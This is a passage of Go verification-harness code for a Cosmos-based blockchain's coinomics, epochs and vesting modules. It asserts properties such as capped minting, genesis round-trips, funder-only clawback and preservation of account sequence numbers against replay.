	k.SetParams(ctx, p)
	e := &c13Env{k: k, ctx: ctx, bank: bank, params: p, nowMs: nowMs, bonded: st.bonded}
	e.max = zz.AnyAmount("maxSupply", 100)
	k.SetMaxSupply(ctx, sdk.NewCoin("aISLM", e.max))
	e.prev = zz.AnyAmount("prevTS", 45)
	if !e.prev.IsZero() {
		k.SetPrevBlockTS(ctx, e.prev)
	}
	return e
}

// c13AnyBlockTime: the calendar year is chosen concretely (every year of the configured set is explored), the instant
// inside the year is symbolic. This keeps Year() out of the solver's way.
func c13AnyBlockTime(tag, yearTag string) int64 {
	years := c13Years()
	y := years[zz.Choose(yearTag, len(years))]
	lo := time.Date(y, 1, 1, 0, 0, 0, 0, time.UTC).UnixMilli()
	hi := time.Date(y+1, 1, 1, 0, 0, 0, 0, time.UTC).UnixMilli() - 1
	return zz.AnyInt64In(tag, lo, hi)
}

func c13Years() []int {
	if zz.Param("years", "sample") == "all" {
		ys := make([]int, 0, 430)
		for y := 1970; y < 2400; y++ {
			ys = append(ys, y)
		}
		return ys
	}
	// one representative per leap-year rule outcome, both sides of each boundary
	return []int{1970, 1999, 2000, 2023, 2024, 2100, 2104, 2200, 2300, 2399}
}

func c13Leap(y int) bool { return (y%4 == 0 && y%100 != 0) || y%400 == 0 }

// c13Formula: bonded x rewardCoefficient% x elapsed / year in 18-decimal fixed point, rounded to the nearest unit.
func c13Formula(e *c13Env) sdk.Dec {
	year := sdkmath.LegacyNewDec(31536000000)
	if c13Leap(time.UnixMilli(e.nowMs).UTC().Year()) {
		year = sdkmath.LegacyNewDec(31622400000)
	}
	rc := e.params.RewardCoefficient.Quo(sdkmath.LegacyNewDec(100))
	elapsed := sdkmath.LegacyNewDec(e.nowMs).Sub(sdkmath.LegacyNewDecFromInt(e.prev))
	return sdkmath.LegacyNewDecFromInt(e.bonded).Mul(rc).Mul(elapsed.Quo(year))
}

// VerifC13_Mint: one enabled block from an arbitrary state.
func VerifC13_Mint() {
	e := c13Setup(true)
	zz.Assume(e.prev.LTE(sdkmath.NewInt(e.nowMs))) // block timestamps do not go backwards
	supply0 := e.bank.supply
	e.k.EndBlocker(e.ctx)
	minted := e.bank.supply.Sub(supply0)
	zz.ObserveInt("minted", minted)
	after := e.k.GetParams(e.ctx)
	zz.Assert(e.bank.get(types.ModuleName).IsZero(), "nothing is left in the coinomics module account")
	zz.Assert(e.bank.get("fee_collector").Equal(minted), "everything minted goes to the fee collector")
	if e.prev.IsZero() {
		zz.Assert(minted.IsZero(), "nothing is minted on the first block after activation")
		zz.Assert(e.k.GetPrevBlockTS(e.ctx).Equal(sdkmath.NewInt(e.nowMs)), "the first block records its timestamp")
		zz.Assert(after.EnableCoinomics, "minting stays enabled")
		zz.Reach("first-block")
		return
	}
	want := c13Formula(e)
	capped := sdkmath.LegacyNewDecFromInt(supply0).Add(want).GT(sdkmath.LegacyNewDecFromInt(e.max))
	if capped {
		zz.Assert(!after.EnableCoinomics, "the block that would cross the cap switches minting off")
		if supply0.LTE(e.max) {
			zz.Assert(minted.Equal(e.max.Sub(supply0)), "the capping block mints exactly the remainder")
			zz.Assert(e.bank.supply.Equal(e.max), "supply ends at the cap")
			zz.Reach("cap")
		} else {
			zz.Assert(minted.IsZero(), "nothing is minted when supply is already above the cap")
			zz.Reach("above-cap")
		}
	} else {
		zz.Assert(minted.Equal(want.RoundInt()), "minted = round(bonded x coefficient% x elapsed / year)")
		zz.Assert(after.EnableCoinomics, "below the cap minting stays enabled")
		zz.Assert(e.bank.supply.LTE(e.max), "supply does not exceed the cap")
		zz.Assert(e.k.GetPrevBlockTS(e.ctx).Equal(sdkmath.NewInt(e.nowMs)), "the block records its timestamp")
		zz.Reach("formula")
	}
	zz.Assert(e.bank.supply.LTE(sdkmath.MaxInt(e.max, supply0)), "minting never lifts supply above max(cap, previous supply)")
	zz.Assert(after.MintDenom == "aISLM" && after.RewardCoefficient.Equal(e.params.RewardCoefficient), "other parameters untouched")
	zz.Reach("end")
}

// VerifC13_Disabled: nothing happens while minting is disabled.
func VerifC13_Disabled() {
	e := c13Setup(false)
	supply0 := e.bank.supply
	e.k.EndBlocker(e.ctx)
	zz.Assert(e.bank.supply.Equal(supply0) && e.bank.mintOps == 0, "nothing is minted while disabled")
	zz.Assert(e.bank.get("fee_collector").IsZero(), "nothing is allocated while disabled")
	zz.Assert(!e.k.GetParams(e.ctx).EnableCoinomics, "stays disabled")
	zz.Reach("end")
}

// VerifC13_Reactivation: minting is switched off for some blocks and on again; the first block after
// activation must mint nothing (two-step history).
func VerifC13_Reactivation() {
	e := c13Setup(false)
	zz.Assume(e.prev.LTE(sdkmath.NewInt(e.nowMs)))
	// block N: disabled
	e.k.EndBlocker(e.ctx)
	// governance enables minting; block N+1 arrives later
	p := e.k.GetParams(e.ctx)
	p.EnableCoinomics = true
	e.k.SetParams(e.ctx, p)
	next := c13AnyBlockTime("nextMs", "nextYear")
	zz.Assume(next >= e.nowMs)
	supply0 := e.bank.supply
	e.k.EndBlocker(e.ctx.WithBlockTime(time.UnixMilli(next)))
	zz.Assert(e.bank.supply.Equal(supply0), "nothing is minted on the first block after activation")
	zz.Reach("end")
}

var _ = paramtypes.Subspace{}

var errInsufficient = errors.New("insufficient funds")


// VerifC13_ParamsAdmitMint: every reward coefficient that the module's own parameter validation accepts keeps the block
// clock running: an enabled block with a recorded previous timestamp records its own timestamp and mints a non-negative
// amount, so that the next block mints for exactly one interval. (A coefficient that makes the block return early leaves the
// old timestamp in place; the first block after the coefficient is corrected then mints for the whole time in between.)
func VerifC13_ParamsAdmitMint() {
	e := c13SetupCoef(true, "-100000000000000000000")
	// the two doors parameters come through: genesis (Params.Validate) and the running chain (a parameter-change proposal or
	// SetParams: x/params runs the validator registered for each key in ParamSetPairs on the new value)
	if zz.ParamInt("door", 0) == 0 {
		zz.Assume(e.params.Validate() == nil)
	} else {
		zz.Assume(c13AdmittedByPairs(&e.params))
	}
	zz.Assume(!e.prev.IsZero() && e.prev.LTE(sdkmath.NewInt(e.nowMs)))
	zz.Assume(e.bank.supply.LT(e.max)) // away from the cap: that is VerifC13_Mint's subject
	supply0 := e.bank.supply
	e.k.EndBlocker(e.ctx)
	minted := e.bank.supply.Sub(supply0)
	zz.Assert(!minted.IsNegative(), "nothing is un-minted")
	after := e.k.GetParams(e.ctx)
	if after.EnableCoinomics {
		zz.Assert(e.k.GetPrevBlockTS(e.ctx).Equal(sdkmath.NewInt(e.nowMs)), "with parameters accepted by the module's validation an enabled block records its timestamp")
		zz.Reach("recorded")
	}
	zz.Reach("end")
}


// c13AdmittedByPairs: what Subspace.SetParamSet / Update check - every registered pair's validator accepts the field's value.
func c13AdmittedByPairs(p *types.Params) bool {
	for _, pair := range p.ParamSetPairs() {
		var v interface{}
		switch f := pair.Value.(type) {
		case *string:
			v = *f
		case *bool:
			v = *f
		case *sdk.Dec:
			v = *f
		default:
			panic("unexpected parameter field type")
		}
		if pair.ValidatorFn(v) != nil {
			return false
		}
	}
	return true
}
