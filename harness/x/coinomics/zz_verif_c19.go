package coinomics

// Harness for property C19 (genesis export/import), coinomics module.

import (
	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"

	"github.com/haqq-network/haqq/x/coinomics/keeper"
	"github.com/haqq-network/haqq/x/coinomics/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

type c19AK struct{}

func (c19AK) GetModuleAddress(name string) sdk.AccAddress { return authtypes.NewModuleAddress(name) }
func (c19AK) GetModuleAccount(ctx sdk.Context, moduleName string) authtypes.ModuleAccountI {
	return authtypes.NewEmptyModuleAccount(moduleName, authtypes.Minter)
}
func (c19AK) GetAccount(sdk.Context, sdk.AccAddress) authtypes.AccountI { return nil }
func (c19AK) SetAccount(sdk.Context, authtypes.AccountI)                {}

func c19Keeper() (keeper.Keeper, sdk.Context) {
	env := zz.NewEnv([]string{"coinomics"}, nil)
	ps := zz.NewSubspace(env, "coinomics", types.ParamKeyTable)
	k := keeper.NewKeeper(env.Key("coinomics"), zz.Codec(), ps, c19AK{}, nil, nil, nil, "fee_collector")
	return k, env.Ctx
}

// VerifC19_Coinomics: Export(Init(Export(S))) = Export(S) for an arbitrary module state S (minting in progress included).
func VerifC19_Coinomics() {
	k1, ctx1 := c19Keeper()
	p := types.Params{MintDenom: "aISLM", EnableCoinomics: zz.AnyBool("enable"), RewardCoefficient: zz.AnyDecRaw("rewardCoefficient", "0", "100000000000000000000")}
	k1.SetParams(ctx1, p)
	if zz.AnyBool("hasMaxSupply") {
		k1.SetMaxSupply(ctx1, sdk.NewCoin("aISLM", zz.AnyAmount("maxSupply", 128)))
	}
	if zz.AnyBool("hasPrevTS") {
		k1.SetPrevBlockTS(ctx1, zz.AnyAmount("prevTS", 64))
	}
	g1 := ExportGenesis(ctx1, k1)

	k2, ctx2 := c19Keeper()
	InitGenesis(ctx2, k2, c19AK{}, nil, *g1)
	g2 := ExportGenesis(ctx2, k2)

	zz.ObserveInt("prevTs", g2.PrevBlockTs)
	zz.ObserveInt("maxSupply", g2.MaxSupply.Amount)
	zz.Assert(g2.PrevBlockTs.Equal(g1.PrevBlockTs), "PrevBlockTs survives export/import")
	zz.Assert(g2.MaxSupply.Denom == g1.MaxSupply.Denom && g2.MaxSupply.Amount.Equal(g1.MaxSupply.Amount), "MaxSupply survives export/import")
	zz.Assert(g2.Params.MintDenom == g1.Params.MintDenom && g2.Params.EnableCoinomics == g1.Params.EnableCoinomics &&
		g2.Params.RewardCoefficient.Equal(g1.Params.RewardCoefficient), "every parameter survives export/import")
	zz.Assert(k2.GetPrevBlockTS(ctx2).Equal(k1.GetPrevBlockTS(ctx1)), "GetPrevBlockTS answers identically")
	zz.Assert(k2.GetMaxSupply(ctx2).Amount.Equal(k1.GetMaxSupply(ctx1).Amount), "GetMaxSupply answers identically")
	zz.Reach("end")
}

var _ = sdkmath.ZeroInt
