package epochs

// Harness for property C19 (genesis export/import), epochs module.

import (
	"time"

	sdk "github.com/cosmos/cosmos-sdk/types"

	"github.com/haqq-network/haqq/x/epochs/keeper"
	"github.com/haqq-network/haqq/x/epochs/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

func c19Keeper() (*keeper.Keeper, sdk.Context) {
	env := zz.NewEnv([]string{"epochs"}, nil)
	return keeper.NewKeeper(zz.CodecFull(), env.Key("epochs")), env.Ctx
}

// VerifC19_Epochs: a chain at height H holds one or two epochs in an arbitrary state the begin blocker can produce (not yet
// started; or started at some earlier height, the current epoch begun at some earlier height and time). The state is
// exported and a fresh chain is initialised from it at height H+1 and a later block time: the second export is the same
// document and the epoch query answers identically.
func VerifC19_Epochs() {
	k1, ctx1 := c19Keeper()
	base := time.Unix(1700000000, 0).UTC()
	height := zz.AnyInt64In("height", 1, 1<<40)
	n := 1 + zz.Choose("epochs", 2)
	ids := []string{"day", "week"}
	for i := 0; i < n; i++ {
		t := ids[i]
		e := types.EpochInfo{Identifier: t, Duration: time.Duration(zz.AnyInt64In(t+".durationSeconds", 1, 1<<25)) * time.Second}
		// InitGenesis fills in a missing start time, so every stored epoch has one
		e.StartTime = base.Add(time.Duration(zz.AnyInt64In(t+".startOffset", -1<<25, 1<<25)) * time.Second)
		if zz.AnyBool(t + ".started") {
			e.EpochCountingStarted = true
			e.CurrentEpoch = zz.AnyInt64In(t+".currentEpoch", 1, 1<<40)
			e.CurrentEpochStartHeight = zz.AnyInt64In(t+".currentEpochStartHeight", 1, 1<<40)
			zz.Assume(e.CurrentEpochStartHeight <= height)
			e.CurrentEpochStartTime = e.StartTime.Add(time.Duration(zz.AnyInt64In(t+".currentEpochStartOffset", 0, 1<<25)) * time.Second)
		} else {
			// the height at which the module was initialised
			e.CurrentEpochStartHeight = zz.AnyInt64In(t+".initHeight", 0, 1<<40)
			zz.Assume(e.CurrentEpochStartHeight <= height)
		}
		k1.SetEpochInfo(ctx1, e)
	}
	ctx1 = ctx1.WithBlockHeight(height).WithBlockTime(base.Add(time.Duration(1<<26) * time.Second))
	g1 := ExportGenesis(ctx1, *k1)
	if err := g1.Validate(); err != nil {
		panic(err)
	}

	k2, ctx2 := c19Keeper()
	ctx2 = ctx2.WithBlockHeight(height + 1).WithBlockTime(base.Add(time.Duration(1<<26+zz.AnyInt64In("downtimeSeconds", 1, 1<<20)) * time.Second))
	InitGenesis(ctx2, *k2, *g1)
	g2 := ExportGenesis(ctx2, *k2)

	zz.Assert(len(g2.Epochs) == len(g1.Epochs), "every epoch survives export/import")
	for i := range g1.Epochs {
		if i >= len(g2.Epochs) {
			break
		}
		a, b := g1.Epochs[i], g2.Epochs[i]
		zz.Assert(a.Identifier == b.Identifier && a.Duration == b.Duration && a.CurrentEpoch == b.CurrentEpoch && a.EpochCountingStarted == b.EpochCountingStarted,
			"identifier, duration, epoch number and the started flag survive export/import")
		zz.Assert(a.StartTime.Equal(b.StartTime) && a.CurrentEpochStartTime.Equal(b.CurrentEpochStartTime), "start time and current epoch start time survive export/import")
		zz.ObserveInt64(a.Identifier+".reimportedStartHeight", b.CurrentEpochStartHeight)
		zz.Assert(a.CurrentEpochStartHeight == b.CurrentEpochStartHeight, "the height at which the current epoch started survives export/import")
		q1, ok1 := k1.GetEpochInfo(ctx1, a.Identifier)
		q2, ok2 := k2.GetEpochInfo(ctx2, a.Identifier)
		zz.Assert(ok1 && ok2 && q1.CurrentEpochStartHeight == q2.CurrentEpochStartHeight && q1.CurrentEpoch == q2.CurrentEpoch, "the epoch query answers identically")
	}
	zz.Reach("end")
}
