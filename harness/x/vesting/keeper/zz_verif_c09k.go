package keeper

// Keeper-level harnesses for properties C09 / C08 (x/vesting): merging a grant into an existing clawback vesting account
// (ApplyVestingSchedule -> addGrant), the Clawback message and the funder update. The account and bank keepers are small
// ledgers behind the module's own interfaces (the bank ledger refuses to go below LockedCoins, like the real bank); the SDK
// staking keeper's read-only getters are overridden (nothing delegated).

import (
	"errors"
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"
	stakingkeeper "github.com/cosmos/cosmos-sdk/x/staking/keeper"
	"github.com/ethereum/go-ethereum/common"

	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	ethtypes "github.com/haqq-network/haqq/types"
	"github.com/haqq-network/haqq/x/vesting/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override (github.com/cosmos/cosmos-sdk/x/staking/keeper.Keeper).GetDelegatorBonded -> c09Bonded
//verif:override (github.com/cosmos/cosmos-sdk/x/staking/keeper.Keeper).GetDelegatorUnbonding -> c09Unbonding
//verif:override (github.com/cosmos/cosmos-sdk/x/staking/keeper.Keeper).BondDenom -> c09BondDenom
//verif:override github.com/cosmos/cosmos-sdk/telemetry.IncrCounter -> c09Incr

// the staking module's view of who has what at stake (absent = nothing)
var c09Stake struct{ bonded, unbonding map[string]sdkmath.Int }

func c09Bonded(k stakingkeeper.Keeper, ctx sdk.Context, d sdk.AccAddress) sdkmath.Int {
	if v, ok := c09Stake.bonded[string(d)]; ok {
		return v
	}
	return sdk.ZeroInt()
}
func c09Unbonding(k stakingkeeper.Keeper, ctx sdk.Context, d sdk.AccAddress) sdkmath.Int {
	if v, ok := c09Stake.unbonding[string(d)]; ok {
		return v
	}
	return sdk.ZeroInt()
}
func c09BondDenom(k stakingkeeper.Keeper, ctx sdk.Context) string                        { return "aISLM" }
func c09Incr(val float32, keys ...string)                                               {}

var (
	c09Acc    = sdk.AccAddress(common.HexToAddress("0x1000000000000000000000000000000000000001").Bytes())
	c09Funder = sdk.AccAddress(common.HexToAddress("0x2000000000000000000000000000000000000002").Bytes())
	c09Other  = sdk.AccAddress(common.HexToAddress("0x3000000000000000000000000000000000000003").Bytes())
	c09Dest   = sdk.AccAddress(common.HexToAddress("0x4000000000000000000000000000000000000004").Bytes())
)

type c09AK struct{ accs map[string]authtypes.AccountI }

func (a *c09AK) GetAllAccounts(ctx sdk.Context) []authtypes.AccountI                 { panic("not used") }
func (a *c09AK) GetModuleAccount(ctx sdk.Context, n string) authtypes.ModuleAccountI { panic("not used") }
func (a *c09AK) GetModuleAddress(name string) sdk.AccAddress                        { return authtypes.NewModuleAddress(name) }
func (a *c09AK) GetAccount(ctx sdk.Context, addr sdk.AccAddress) authtypes.AccountI {
	if x, ok := a.accs[string(addr)]; ok {
		return x
	}
	return nil
}
func (a *c09AK) SetAccount(ctx sdk.Context, acc authtypes.AccountI) { a.accs[string(acc.GetAddress())] = acc }
func (a *c09AK) NewAccount(ctx sdk.Context, acc authtypes.AccountI) authtypes.AccountI { return acc }
func (a *c09AK) NewAccountWithAddress(ctx sdk.Context, addr sdk.AccAddress) authtypes.AccountI {
	panic("not used")
}
func (a *c09AK) IterateAccounts(ctx sdk.Context, process func(authtypes.AccountI) bool) { panic("not used") }
func (a *c09AK) RemoveAccount(ctx sdk.Context, acc authtypes.AccountI)                  { panic("not used") }

type c09Bank struct {
	bal map[string]sdkmath.Int // "addr" -> aISLM
	ak  *c09AK
	now time.Time
}

func (b *c09Bank) get(a sdk.AccAddress) sdkmath.Int {
	if v, ok := b.bal[string(a)]; ok {
		return v
	}
	return sdk.ZeroInt()
}
func (b *c09Bank) GetBalance(ctx sdk.Context, addr sdk.AccAddress, denom string) sdk.Coin {
	return sdk.NewCoin(denom, b.get(addr))
}
func (b *c09Bank) GetAllBalances(ctx sdk.Context, addr sdk.AccAddress) sdk.Coins { panic("not used") }
func (b *c09Bank) SendCoins(ctx sdk.Context, from, to sdk.AccAddress, amt sdk.Coins) error {
	a := amt.AmountOf("aISLM")
	locked := sdk.ZeroInt()
	if va, ok := b.ak.accs[string(from)].(*types.ClawbackVestingAccount); ok {
		locked = va.LockedCoins(b.now).AmountOf("aISLM")
	}
	if b.get(from).Sub(locked).LT(a) {
		return errors.New("insufficient spendable funds")
	}
	b.bal[string(from)] = b.get(from).Sub(a)
	b.bal[string(to)] = b.get(to).Add(a)
	return nil
}
func (b *c09Bank) SpendableCoins(ctx sdk.Context, addr sdk.AccAddress) sdk.Coins { panic("not used") }
func (b *c09Bank) BlockedAddr(addr sdk.AccAddress) bool                          { return false }

const (
	c09MaxStart = int64(1) << 40
	c09MaxLen   = int64(1) << 36
)

func c09Periods(tag string, n int) sdkvesting.Periods {
	ps := make(sdkvesting.Periods, 0, n)
	for i := 0; i < n; i++ {
		t := tag + string(rune('0'+i))
		ps = append(ps, sdkvesting.Period{Length: zz.AnyInt64In(t+".len", 0, c09MaxLen), Amount: sdk.NewCoins(sdk.NewCoin("aISLM", zz.AnyAmount(t+".amt", 100)))})
	}
	return ps
}

// released: sum of the periods of a schedule (start, ps) whose end is <= t; zero up to and including the start instant
// (reference reading, independent of ReadSchedule)
func c09Released(start int64, ps sdkvesting.Periods, t int64) sdkmath.Int {
	sum, at := sdk.ZeroInt(), start
	if t <= start {
		return sum
	}
	for _, p := range ps {
		at += p.Length
		if at <= t {
			sum = sum.Add(p.Amount.AmountOf("aISLM"))
		}
	}
	return sum
}

func c09World(now int64) (Keeper, sdk.Context, *c09AK, *c09Bank) {
	c09Stake.bonded, c09Stake.unbonding = nil, nil
	env := zz.NewEnv([]string{"vesting"}, nil)
	ctx := env.Ctx.WithBlockTime(time.Unix(now, 0))
	ak := &c09AK{accs: map[string]authtypes.AccountI{}}
	bank := &c09Bank{bal: map[string]sdkmath.Int{}, ak: ak, now: time.Unix(now, 0)}
	return NewKeeper(env.Key("vesting"), zz.Codec(), ak, bank, stakingkeeper.Keeper{}), ctx, ak, bank
}

// c09Account: an arbitrary valid clawback account (lockup and vesting schedules with the same total).
func c09Account(tag string, nl, nv int) (*types.ClawbackVestingAccount, int64) {
	start := zz.AnyInt64In(tag+".start", 0, c09MaxStart)
	lk := c09Periods(tag+".lock", nl)
	vs := c09Periods(tag+".vest", nv)
	ov := lk.TotalAmount()
	zz.Assume(vs.TotalAmount().AmountOf("aISLM").Equal(ov.AmountOf("aISLM")))
	zz.Assume(ov.AmountOf("aISLM").IsPositive())
	ch := common.Hash{}
	va := types.NewClawbackVestingAccount(authtypes.NewBaseAccountWithAddress(c09Acc), c09Funder, ov, time.Unix(start, 0), lk, vs, &ch)
	zz.Assume(va.Validate() == nil)
	return va, start
}

// VerifC09_MergeGrant: merging a grant (its own start time, lockup and vesting schedules) into an existing account yields an
// account whose lockup and vesting schedules release, at every instant, exactly the sum of what the old account and the
// grant release; the grant total is added, and the account stays valid.
func VerifC09_MergeGrant() {
	nl, nv := zz.ParamInt("lock", 1), zz.ParamInt("vest", 1)
	now := zz.AnyInt64In("now", 0, c09MaxStart+3*c09MaxLen)
	k, ctx, ak, _ := c09World(now)
	va, s0 := c09Account("acc", nl, nv)
	ak.accs[string(c09Acc)] = va
	lk0, vs0 := va.LockupPeriods, va.VestingPeriods
	ov0 := va.OriginalVesting.AmountOf("aISLM")

	s1 := zz.AnyInt64In("grant.start", 0, c09MaxStart)
	glk := c09Periods("grant.lock", zz.ParamInt("glock", 1))
	gvs := c09Periods("grant.vest", zz.ParamInt("gvest", 1))
	g := glk.TotalAmount()
	zz.Assume(gvs.TotalAmount().AmountOf("aISLM").Equal(g.AmountOf("aISLM")))
	zz.Assume(g.AmountOf("aISLM").IsPositive())
	funder := c09Funder
	wrongFunder := zz.AnyBool("otherFunder")
	if wrongFunder {
		funder = c09Other
	}
	t := zz.AnyInt64In("t", 0, c09MaxStart+4*c09MaxLen)

	acc, created, merged, err := k.ApplyVestingSchedule(ctx, funder, c09Acc, g, time.Unix(s1, 0), glk, gvs, true)
	if err != nil {
		zz.Assert(wrongFunder, "a merge by the recorded funder succeeds")
		zz.Reach("refused")
		return
	}
	zz.Assert(!wrongFunder, "only the recorded funder can merge a grant")
	zz.Assert(!created && merged, "reported as a merge")
	zz.Reach("merged")
	stored, ok := ak.accs[string(c09Acc)].(*types.ClawbackVestingAccount)
	zz.Assert(ok && stored == acc, "the merged account is stored")
	zz.Assert(acc.OriginalVesting.AmountOf("aISLM").Equal(ov0.Add(g.AmountOf("aISLM"))), "original vesting grows by the grant")
	zz.Assert(acc.Validate() == nil, "the merged account is valid")

	total := acc.OriginalVesting.AmountOf("aISLM")
	wantUnlocked := c09Released(s0, lk0, t).Add(c09Released(s1, glk, t))
	wantVested := c09Released(s0, vs0, t).Add(c09Released(s1, gvs, t))
	gotLocked := acc.GetLockedUpCoins(time.Unix(t, 0)).AmountOf("aISLM")
	gotUnvested := acc.GetVestingCoins(time.Unix(t, 0)).AmountOf("aISLM")
	zz.ObserveInt("gotLocked", gotLocked)
	zz.ObserveInt("gotUnvested", gotUnvested)
	if t <= s0 || t <= s1 {
		// before both schedules have started the merged schedule (anchored at the earlier start) is only required to be
		// between the two; the exact-sum clause is stated for instants after both have started
		zz.Reach("before-both-started")
		return
	}
	zz.Assert(gotLocked.Equal(total.Sub(wantUnlocked)), "merged lockup releases exactly the sum of both lockup schedules at every instant")
	zz.Assert(gotUnvested.Equal(total.Sub(wantVested)), "merged vesting releases exactly the sum of both vesting schedules at every instant")
	zz.Reach("end")
}

// VerifC09_ClawbackMsg: the Clawback message succeeds only for the recorded funder, moves exactly the unvested amount to the
// destination (default: the funder), keeps every vested coin under its lockup, and leaves a consistent account.
func VerifC09_ClawbackMsg() {
	nl, nv := zz.ParamInt("lock", 2), zz.ParamInt("vest", 2)
	now := zz.AnyInt64In("now", 0, c09MaxStart+3*c09MaxLen)
	k, ctx, ak, bank := c09World(now)
	va, s0 := c09Account("acc", nl, nv)
	ak.accs[string(c09Acc)] = va
	lk0, vs0 := va.LockupPeriods, va.VestingPeriods
	ov0 := va.OriginalVesting.AmountOf("aISLM")
	free := zz.AnyAmount("free", 100)
	bank.bal[string(c09Acc)] = ov0.Add(free)

	signer := c09Funder
	bySomeoneElse := zz.AnyBool("signedByOther")
	if bySomeoneElse {
		signer = c09Other
	}
	dest := ""
	destAddr := signer
	if zz.AnyBool("explicitDest") {
		dest, destAddr = c09Dest.String(), c09Dest
	}
	t := zz.AnyInt64In("t", 0, c09MaxStart+4*c09MaxLen)
	unvested := ov0.Sub(c09Released(s0, vs0, now))
	bal0, dest0 := bank.get(c09Acc), bank.get(destAddr)

	_, err := k.Clawback(sdk.WrapSDKContext(ctx), &types.MsgClawback{FunderAddress: signer.String(), AccountAddress: c09Acc.String(), DestAddress: dest})
	if err != nil {
		zz.Assert(bySomeoneElse, "a clawback by the recorded funder succeeds")
		zz.Reach("refused")
		return
	}
	zz.Assert(!bySomeoneElse, "only the recorded funder can claw back")
	zz.Reach("clawed-back")
	zz.Assert(bank.get(c09Acc).Equal(bal0.Sub(unvested)), "exactly the unvested amount leaves the account")
	zz.Assert(bank.get(destAddr).Equal(dest0.Add(unvested)), "exactly the unvested amount reaches the destination")
	after, ok := ak.accs[string(c09Acc)].(*types.ClawbackVestingAccount)
	zz.Assert(ok, "the account stays a clawback vesting account")
	vested := ov0.Sub(unvested)
	zz.Assert(after.OriginalVesting.AmountOf("aISLM").Equal(vested), "the grant is reduced to the vested amount")
	zz.Assert(after.GetVestingCoins(time.Unix(t, 0)).AmountOf("aISLM").IsZero() || t < now, "nothing is left to vest after the clawback")
	// every vested coin stays subject to its lockup: what the old lockup schedule has released by t is unlocked (at most the
	// vested amount), the rest of the vested coins is still locked - the clawed-back coins come out of the locked part first
	if t >= now {
		unlockedBefore := c09Released(s0, lk0, t)
		want := sdkmath.MaxInt(vested.Sub(unlockedBefore), sdk.ZeroInt())
		got := after.GetLockedUpCoins(time.Unix(t, 0)).AmountOf("aISLM")
		zz.ObserveInt("lockedAfter", got)
		zz.Assert(got.Equal(want), "vested coins stay locked exactly as long as before")
	}
	zz.Reach("end")
}

// VerifC09_FunderUpdate: only the recorded funder can hand the role over; afterwards the old funder can no longer claw back.
func VerifC09_FunderUpdate() {
	now := zz.AnyInt64In("now", 0, c09MaxStart+3*c09MaxLen)
	k, ctx, ak, bank := c09World(now)
	va, _ := c09Account("acc", 1, 1)
	ak.accs[string(c09Acc)] = va
	bank.bal[string(c09Acc)] = va.OriginalVesting.AmountOf("aISLM")
	signer := c09Funder
	byOther := zz.AnyBool("signedByOther")
	if byOther {
		signer = c09Other
	}
	_, err := k.UpdateVestingFunder(sdk.WrapSDKContext(ctx), &types.MsgUpdateVestingFunder{FunderAddress: signer.String(), NewFunderAddress: c09Dest.String(), VestingAddress: c09Acc.String()})
	zz.Assert((err == nil) == !byOther, "only the recorded funder can change the funder")
	after := ak.accs[string(c09Acc)].(*types.ClawbackVestingAccount)
	if err != nil {
		zz.Assert(after.FunderAddress == c09Funder.String(), "a refused update changes nothing")
		zz.Reach("refused")
		return
	}
	zz.Assert(after.FunderAddress == c09Dest.String(), "the new funder is recorded")
	_, err = k.Clawback(sdk.WrapSDKContext(ctx), &types.MsgClawback{FunderAddress: c09Funder.String(), AccountAddress: c09Acc.String()})
	zz.Assert(err != nil, "the previous funder can no longer claw back")
	zz.Reach("end")
}

// VerifC03_ScheduleKeepsAccountIdentity: applying a vesting schedule to an account that already exists - converting a plain
// account (MsgConvertIntoVestingAccount is signed by the funder alone; a liquid-vesting redeem reaches the same code) or
// merging into a vesting account - keeps what signature verification binds to: address, account number, public key and
// above all the sequence. An account whose sequence restarts can have every transaction it ever signed executed again.
func VerifC03_ScheduleKeepsAccountIdentity() {
	now := zz.AnyInt64In("now", 0, c09MaxStart+3*c09MaxLen)
	k, ctx, ak, _ := c09World(now)
	seq := zz.AnyUint64("sequence")
	num := zz.AnyUint64("accountNumber")
	pk := &ethsecp256k1.PubKey{Key: []byte{2, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20, 21, 22, 23, 24, 25, 26, 27, 28, 29, 30, 31, 32}}
	base := authtypes.NewBaseAccountWithAddress(c09Acc)
	_ = base.SetSequence(seq)
	_ = base.SetAccountNumber(num)
	_ = base.SetPubKey(pk)
	merge := zz.AnyBool("targetIsVestingAccount")
	if merge {
		va, _ := c09Account("acc", 1, 1)
		va.BaseAccount = base
		ak.accs[string(c09Acc)] = va
	} else {
		ak.accs[string(c09Acc)] = &ethtypes.EthAccount{BaseAccount: base, CodeHash: common.Hash{}.Hex()}
	}
	s1 := zz.AnyInt64In("grant.start", 0, c09MaxStart)
	glk := c09Periods("grant.lock", 1)
	gvs := c09Periods("grant.vest", 1)
	g := glk.TotalAmount()
	zz.Assume(gvs.TotalAmount().AmountOf("aISLM").Equal(g.AmountOf("aISLM")))
	zz.Assume(g.AmountOf("aISLM").IsPositive())
	_, _, _, err := k.ApplyVestingSchedule(ctx, c09Funder, c09Acc, g, time.Unix(s1, 0), glk, gvs, merge)
	if err != nil {
		zz.Reach("?refused")
		return
	}
	after := ak.accs[string(c09Acc)]
	zz.Assert(after.GetAddress().Equals(c09Acc), "the address is kept")
	zz.Assert(after.GetSequence() == seq, "the sequence of an existing account survives the schedule being applied (replay protection)")
	zz.Assert(after.GetAccountNumber() == num, "the account number is kept")
	zz.Assert(after.GetPubKey() != nil && after.GetPubKey().Equals(pk), "the public key is kept")
	if merge {
		zz.Reach("merged")
	} else {
		zz.Reach("converted")
	}
	zz.Reach("end")
}

// VerifC09_BalancesQuery: the public read path of the schedules. Query/Balances of a clawback vesting account reports, at
// the block time, locked = original - (lockup periods ended), vested = vesting periods ended, unvested = original - vested -
// for schedules whose lockup runs ahead of or behind the vesting, with and without delegations tracked on the account.
func VerifC09_BalancesQuery() {
	now := zz.AnyInt64In("now", 0, c09MaxStart+3*c09MaxLen)
	k, ctx, ak, _ := c09World(now)
